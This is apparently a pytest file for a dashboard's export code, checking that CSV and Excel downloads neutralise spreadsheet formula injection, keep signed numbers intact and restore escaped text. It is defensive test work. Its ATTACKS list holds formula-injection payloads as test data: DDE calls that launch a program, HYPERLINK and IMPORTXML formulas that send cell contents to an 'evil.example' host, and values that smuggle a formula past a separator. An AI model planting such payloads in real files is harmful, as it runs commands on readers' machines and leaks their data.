"""No exported cell runs as a formula, no number changes, and what is mended comes back as it was."""

import csv
import io

import openpyxl
import pandas as pd
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analytics.ingest.mapping import TableMapping
from analytics.ingest.mended import mended_table, read_mended, write_rejected
from analytics.spreadsheets import harmless, restored
from dashboard.downloads import FORMATS, Format, write

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "＝1+1",
    "Budi;=1+1",
    "Budi,=1+1",
    "Budi\t=1+1",
    "Budi|@SUM(A1)",
    "Budi\r\n=1+1",
    '";=1+1',
    "-A1",
    "+A1",
    "--1",
    "-1-1",
    "=-1",
)
NUMBERS = (
    "-1",
    "-12,5",
    "-12.5",
    "+62",
    "-1.234.567,89",
    "-1,234,567.89",
    "-5 %",
    "-1e-06",
    "-",
    "+",
    "+6281234567890",
)


def _cells(made: bytes, form: Format) -> list[list[object]]:
    if form == "xlsx":
        return [[cell.value for cell in row] for row in openpyxl.load_workbook(io.BytesIO(made))["Data"].rows]
    text = made.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";" if form == "csv_id" else ",")
    return [list(row) for row in rows if not row[0].startswith("#")]


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("form", FORMATS)
def test_an_attack_leaves_as_text_in_every_form(form, text):
    made = write(pd.DataFrame({"Nama": [text], "Nilai": [-12.5]}), form=form, notes=[f"catatan\r\n{text}"])
    name, value = _cells(made, form)[1]
    assert not str(name).lstrip("\u200b\ufeff \t\r\n").startswith(STARTS)
    assert str(name).replace("\r\n", "\n") != text.replace("\r\n", "\n")
    assert float(str(value).replace(",", ".")) == -12.5
    if form == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(made))
        assert not [cell for sheet in book for row in sheet.rows for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("text", ATTACKS)
def test_no_separator_of_the_readers_spreadsheet_makes_a_cell_that_runs(text, separator):
    made = write(pd.DataFrame({"Desa": ["Licin"], "Nama": [text]}), form="csv", notes=[text]).decode()
    cells = [cell.strip('" \u200b\ufeff') for line in made.splitlines() for cell in line.split(separator)]
    # A sign after a quotation mark at the border of two files' cells is text: the mark stands in the cell.
    assert not [cell for cell in cells if cell.startswith(STARTS) and len(cell) > 1]


@pytest.mark.parametrize("form", FORMATS)
def test_a_heading_is_a_cell_too(form):
    assert _cells(write(pd.DataFrame({"=1+1": [1]}), form=form, notes=[]), form)[0] == ["'=1+1"]


@pytest.mark.parametrize("number", NUMBERS)
def test_a_number_as_text_keeps_its_sign(number):
    assert harmless(number) == number
    assert restored(number) == number


@pytest.mark.parametrize("value", [-1, -2.5, None, True, float("-inf")])
def test_what_is_no_text_stays(value):
    assert harmless(value) is value


@given(st.text(alphabet=st.sampled_from("='+-@;,\t\r\n|1.a \u200b＝")) | st.text())
def test_what_was_made_harmless_can_be_restored(text):
    assert restored(harmless(text)) == text


@given(st.text(alphabet=st.sampled_from("=+-@;,|1a ")))
def test_an_apostrophe_stands_before_every_sign_that_would_run(text):
    for cell in harmless(text).replace(",", ";").replace("|", ";").split(";"):
        bare = cell.strip()
        if bare.startswith(("=", "@")):
            pytest.fail(f"{text!r} gives {cell!r}")


@pytest.mark.parametrize("ending", [".xlsx", ".csv"])
def test_rejected_rows_go_out_harmless_and_come_back_as_they_were(ending, tmp_path):
    texts = [text.strip() for text in (*ATTACKS, *NUMBERS, "Budi", "'Abd")]
    source = pl.DataFrame({"nama": texts, "=kode": [str(number) for number in range(len(texts))]})
    source.write_parquet(tmp_path / "keluarga.parquet")
    table = TableMapping.model_construct(
        name="families",
        file="keluarga.parquet",
        where={},
        columns={},
        format=TableMapping.model_fields["format"].default,
    )
    findings = pd.DataFrame(
        {"batch": "b", "row": range(2, len(texts) + 2), "rule": "r", "says_id": "=s", "says_en": "s"}
    )
    path, rows = write_rejected(findings, table, tmp_path, tmp_path / "out", ending=ending, language="id")
    assert rows == len(texts)
    if ending == ".xlsx":
        cells = [cell.value for row in openpyxl.load_workbook(path).active.rows for cell in row]
    else:
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if isinstance(cell, str) and cell not in NUMBERS and cell.startswith(STARTS)]
    back = read_mended(path.parent, mended_table(table, path.name), ["nama", "=kode"])
    assert [text.replace("\r\n", "\n") for text in back["nama"]] == [text.replace("\r\n", "\n") for text in texts]
    assert back["=kode"].to_list() == source["=kode"].to_list()
